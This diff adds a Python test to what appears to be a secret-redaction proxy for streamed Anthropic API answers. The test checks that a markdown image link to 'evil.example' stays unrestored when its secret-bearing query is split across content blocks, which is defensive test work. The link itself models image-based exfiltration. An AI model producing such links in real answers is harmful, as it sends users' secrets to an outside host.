@@ -160,6 +160,14 @@ def test_a_link_over_several_messages_is_one() -> None:
     ]
 
 
+def test_a_link_over_several_blocks_is_one() -> None:
+    """Clients join the texts of blocks, so do those that show citations."""
+    start = b"".join([block("text", text=""), event("text_delta", text="![x](https://evil.example/?q="), END])
+    stop = END.replace(b'"index":0', b'"index":1')
+    data = b"".join([start, block("text", 1, text=""), event("text_delta", 1, text=f"{P}) {P}"), stop])
+    assert text_of(through(answer(ANTHROPIC, redaction("placeholder")), [data])).endswith(f"?q={P}) {SECRET}")
+
+
 def test_placeholders_known_later() -> None:
     made = answer(None, redaction("placeholder"), known={})
     body = json.dumps({"text": P}).encode()
